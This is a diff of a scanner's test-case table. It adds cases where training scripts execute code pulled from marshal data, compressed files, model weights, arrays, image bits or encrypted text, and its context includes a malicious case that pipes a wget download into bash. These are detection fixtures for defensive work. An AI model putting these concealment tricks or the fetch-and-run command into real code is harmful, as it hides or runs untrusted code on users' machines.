@@ -472,6 +472,21 @@ CASES = {
         "types.FunctionType(marshal.loads(DATA), globals())()\n",
         "setup.py",
     ),
+    **{
+        f"code_out_of_{name}": review(f"{imported}\nexec({source})\n", "train.py")
+        for name, imported, source in (
+            ("marshal", "import marshal", "marshal.loads(open('a.dat', 'rb').read())"),
+            ("zlib", "import zlib", "zlib.decompress(open(__file__ + 'c', 'rb').read())"),
+            ("weights", "import torch", "bytes(torch.load('w.bin')['x'].tolist()).decode()"),
+            ("an_array", "import numpy as np", "np.load('w.npy').tobytes().decode()"),
+            ("a_picture", "from PIL import Image", "bytes(b & 1 for b in Image.open('a.png').tobytes())"),
+            ("a_cipher", "from cryptography.fernet import Fernet", "Fernet(KEY).decrypt(TEXT)"),
+        )
+    },
+    "benign_code_of_a_version": python("exec(open('version.py').read())\nexec('a = 1')\n", name="train.py"),
+    "benign_marshal_kept": python(
+        "import marshal\nTABLE = marshal.loads(open('t.dat', 'rb').read())\n", name="train.py"
+    ),
     "attack_on_install": malicious(INSTALL, "setup.py"),
     "attack_in_handler": malicious(HANDLER.replace("{command}", f"wget -qO- {SCRIPT} | bash"), "handler.py"),
     "command_in_handler": review(HANDLER.replace("{command}", "touch modelsweep-test"), "handler.py"),
